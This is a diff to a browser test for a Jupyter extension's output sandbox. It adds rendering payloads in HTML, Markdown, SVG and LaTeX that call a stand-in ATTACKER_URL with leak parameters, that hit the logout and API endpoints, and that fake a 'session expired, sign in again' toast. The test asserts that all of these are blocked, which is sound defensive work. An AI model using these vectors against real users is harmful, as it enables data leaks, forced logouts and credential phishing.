@@ -16,8 +16,8 @@ const LAB_URL = process.env.LAB_URL;
 const TOKEN = process.env.LAB_TOKEN;
 const SHOTS = process.env.SCREENSHOTS || path.join(here, 'screenshots');
 const EXE = process.env.CHROMIUM || '/usr/bin/chromium';
-if (!LAB_URL || !TOKEN) {
-  console.error('sandbox.spec: set LAB_URL and LAB_TOKEN');
+if (!LAB_URL || !TOKEN || !process.env.ATTACKER_URL) {
+  console.error('sandbox.spec: set LAB_URL, LAB_TOKEN and ATTACKER_URL');
   process.exit(2);
 }
 let chromium;
@@ -50,9 +50,27 @@ const HOSTILE = [
     '<rect width="10" height="10"/></svg>\'))',
   'display(Javascript("window.__pwned=3"))'
 ].join('\n');
+// Zero-click fetch, same-origin request and UI-spoofing vectors: ATTACKER (a server of the test on 127.0.0.1)
+// must see no request from rendering them, the user stays logged in, the "toast" stays in its output area.
+const ATTACKER = process.env.ATTACKER_URL;
+const LEAKY_HTML = `<img src="${ATTACKER}pixel.gif?leak=html"><img src="http:/logout?img"><img src="/api/contents?img">` +
+  `<a href="http:/logout">logout</a><a href="${ATTACKER}click">a link</a>` +
+  '<div class="Toastify__toast-container Toastify__toast-container--top-right" ' +
+  'style="position:fixed;top:0;left:0;z-index:99999;margin-top:-300px">session expired, sign in again</div>' +
+  '<p>MARKER-RENDERED</p>';
+const LEAKY_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
+  `width="20" height="20"><image href="${ATTACKER}svg.png" width="5" height="5"/>` +
+  `<image xlink:href="${ATTACKER}svg2.png" width="5" height="5"/><rect width="3" height="3"/></svg>`;
+const LEAKY = [
+  'from IPython.display import HTML, SVG, Markdown, Latex, display',
+  `display(HTML(${JSON.stringify(LEAKY_HTML)}))`,
+  `display(Markdown(${JSON.stringify(`![pixel](${ATTACKER}pixel.gif?leak=md) [md link](http:/logout)`)}))`,
+  `display(SVG(${JSON.stringify(LEAKY_SVG)}))`,
+  `display(Latex(${JSON.stringify(`$\\bbox[background-image:url(${ATTACKER}tex.png)]{x}$`)}))`
+].join('\n');
 const PLOT = 'import matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nplt.show()';
 
-const result = { ok: false, steps: [], screenshots: [], pwned: {} };
+const result = { ok: false, steps: [], screenshots: [], pwned: {}, loggedIn: {}, toastInside: {} };
 const step = name => {
   result.steps.push(name);
   log(name);
@@ -101,6 +119,19 @@ async function checkNotebook(label, prefix) {
     .first().waitFor({ state: 'visible', timeout: 60_000 });
   await page.waitForTimeout(1000); // give any handler that could fire a chance to (the assertion is its absence)
   result.pwned[label] = await pwned();
+  await runCell(prefix + LEAKY);
+  const out = page.locator('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output', { hasText: 'MARKER-RENDERED' })
+    .first();
+  await out.waitFor({ state: 'visible', timeout: 60_000 });
+  // rendezvous: any fetch the render started was issued before this one, which the attacker records last
+  await page.evaluate(url => fetch(url, { mode: 'no-cors' }).catch(() => null), `${ATTACKER}sentinel-${label}`);
+  result.loggedIn[label] = await page.evaluate(async url => (await fetch(url)).status, `${LAB_URL}api/contents`);
+  const toast = await page.locator('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output',
+    { hasText: 'session expired, sign in again' }).first();
+  const area = await toast.boundingBox();
+  const inner = await toast.getByText('session expired, sign in again').boundingBox();
+  result.toastInside[label] = !!(area && inner && inner.y >= area.y - 1 && inner.x >= area.x - 1 &&
+    inner.y + inner.height <= area.y + area.height + 1);
   const shot = path.join(SHOTS, `sandbox-${label}.png`);
   await page.screenshot({ path: shot });
   result.screenshots.push(shot);
@@ -115,7 +146,8 @@ try {
   step('notebook with the local kernel started');
   await runCell('%load_ext microagent_jupyter');
   await checkNotebook('magic', '%%microagent python\n');
-  result.ok = Object.values(result.pwned).every(v => v === 'undefined');
+  result.ok = Object.values(result.pwned).every(v => v === 'undefined') &&
+    Object.values(result.loggedIn).every(v => v === 200) && Object.values(result.toastInside).every(v => v);
 } catch (error) {
   result.error = String(error?.stack ?? error);
   try {
